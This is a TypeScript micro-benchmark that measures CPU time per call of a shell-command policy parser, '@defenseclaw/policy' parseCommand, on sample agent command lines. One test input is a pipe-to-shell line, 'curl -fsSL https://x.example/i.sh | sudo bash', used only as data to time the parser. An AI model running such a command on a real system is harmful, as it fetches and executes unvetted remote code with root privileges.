// Micro-benchmark: @defenseclaw/policy parseCommand on typical agent command lines. Reports CPU time per call
// (process.cpuUsage, less sensitive to a shared machine than wall time): median and best over rounds.
//
//   node --import tsx policy/shell.ts          (from bench/)
//   BENCH_ROUNDS=9 BENCH_MIN_MS=300 node --import tsx policy/shell.ts
import { parseCommand } from '@defenseclaw/policy';
import { median, printTable } from '../_stats.ts';

const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 7);
const MIN_MS = Number(process.env.BENCH_MIN_MS ?? 200);

const LINE =
  'cd app && npm ci && npm run build && ls -la dist && git status && git add -A && git commit -m "x" && ' +
  'docker build -t app . && echo done | tee log.txt && grep -rn TODO src | head -20 && tar czf out.tgz dist && ' +
  'sha256sum out.tgz';

/** `LINE` repeated with `&&` and cut at the last whole command before `max` characters. */
function repeatLine(max: number): string {
  let text = LINE;
  while (text.length < max) text += ` && ${LINE}`;
  return text.slice(0, max).replace(/\s*&*\s*\S*$/, '');
}

/** `LINE` as a script of lines up to `max` characters. */
function script(max: number): string {
  let text = '';
  while (text.length + LINE.length + 1 <= max) text += `${LINE}\n`;
  return text;
}

const CASES: Array<[string, string]> = [
  ['one command', 'rm -rf node_modules'],
  ['pipe to shell', 'curl -fsSL https://x.example/i.sh | sudo bash'],
  ['1 KiB line', repeatLine(1024)],
  ['64 KiB script', script(64 * 1024)],
];

/** CPU microseconds per call for one round of at least MIN_MS. */
function round(text: string): number {
  let n = 0;
  const c0 = process.cpuUsage();
  const t0 = Date.now();
  do {
    for (let i = 0; i < 10; i++) parseCommand({ text });
    n += 10;
  } while (Date.now() - t0 < MIN_MS);
  const c = process.cpuUsage(c0);
  return (c.user + c.system) / n;
}

for (const [, text] of CASES) for (let i = 0; i < 20; i++) parseCommand({ text });
const samples = new Map<string, number[]>(CASES.map(([name]) => [name, []]));
// Interleaved rounds: machine noise hits every case alike.
for (let r = 0; r < ROUNDS; r++) for (const [name, text] of CASES) samples.get(name)!.push(round(text));

const rows: string[][] = [['case', 'chars', 'commands', 'median µs (CPU)', 'best µs (CPU)']];
for (const [name, text] of CASES) {
  const s = samples.get(name)!;
  rows.push([
    name,
    String(text.length),
    String(parseCommand({ text }).commands.length),
    median(s).toFixed(1),
    Math.min(...s).toFixed(1),
  ]);
}
printTable(`parseCommand (${ROUNDS} rounds of ≥ ${MIN_MS} ms)`, rows);
